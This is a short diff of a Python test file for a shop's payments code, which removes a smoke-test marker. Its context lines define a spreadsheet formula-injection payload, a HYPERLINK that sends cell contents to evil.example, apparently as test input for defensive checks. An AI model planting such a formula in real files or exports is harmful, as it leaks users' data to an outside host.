@@ -11,7 +11,7 @@ from shop.core.roles import STUDENTS, TEACHERS, roles_ensure_groups
 from tests.checkout.helpers import ADDRESS, basket_for, gingerbread, russia
 from tests.payments.helpers import pay
 
-pytestmark = [pytest.mark.smoke, pytest.mark.payments, pytest.mark.django_db]
+pytestmark = [pytest.mark.payments, pytest.mark.django_db]
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 
